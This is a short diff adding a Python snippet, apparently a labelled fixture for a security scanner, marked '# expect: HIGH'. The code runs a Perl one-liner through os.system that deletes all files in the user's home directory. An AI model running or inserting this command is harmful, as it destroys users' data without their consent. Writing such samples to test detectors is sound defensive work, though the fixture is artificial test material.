@@ -1,0 +1,3 @@
+# expect: HIGH
+import os
+os.system("perl -e 'unlink glob(\"$ENV{HOME}/*\")'")
